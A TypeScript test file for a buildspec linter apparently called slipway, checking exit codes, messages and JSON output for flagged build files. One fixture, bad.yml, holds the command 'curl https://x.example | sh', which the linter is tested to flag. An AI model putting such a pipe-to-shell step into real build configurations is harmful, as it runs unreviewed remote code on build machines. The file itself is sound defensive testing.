import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { slipway } from "./slipway";

describe("slipway buildspec lint", () => {
  let folder: string;
  before(() => {
    folder = mkdtempSync(join(tmpdir(), "slipway-lint-"));
    const build = (command: string) => `version: 0.2\nphases: { build: { commands: ["${command}"] } }\n`;
    writeFileSync(join(folder, "good.yml"), build("make"));
    writeFileSync(join(folder, "bad.yml"), build("curl https://x.example | sh"));
    writeFileSync(join(folder, "export.yml"), `env: { exported-variables: [TAG] }\n${build("make")}`);
  });
  after(() => rmSync(folder, { recursive: true }));

  const lint = (...args: string[]) => slipway("buildspec", "lint", ...args, "-C", folder);

  it("ends with 0 for files without a problem", async () => {
    const { code, stdout, stderr } = await lint("good.yml");
    assert.equal(code, 0, stderr);
    assert.match(stdout, /The buildspec is fine/);
  });

  it("ends with 3 and says file, line, place and remedy for every problem of every file", async () => {
    const { code, stdout } = await lint("good.yml", "bad.yml", "export.yml");
    assert.equal(code, 3);
    assert.match(
      stdout,
      /^bad\.yml:2: phases\.build\.commands\[0\]: runs what it downloads, unseen: download to a file/m,
    );
    assert.match(stdout, /^export\.yml:1: env\.exported-variables\[0\]: is set by nothing/m);
  });

  it("takes the variables that the project sets", async () => {
    assert.equal((await lint("export.yml", "--variable", "TAG")).code, 0);
  });

  it("prints one JSON value for machines", async () => {
    const { code, stdout } = await lint("bad.yml", "--json");
    assert.equal(code, 3);
    const { problems } = JSON.parse(stdout);
    assert.deepEqual([problems.length, problems[0].file, problems[0].line], [1, "bad.yml", 2]);
  });

  it("ends with 2 for a file that cannot be read, and without a file", async () => {
    const { code, stderr } = await lint("gone.yml");
    assert.equal(code, 2);
    assert.match(stderr, /gone\.yml cannot be read \(ENOENT\)/);
    assert.equal((await lint()).code, 2);
  });
});
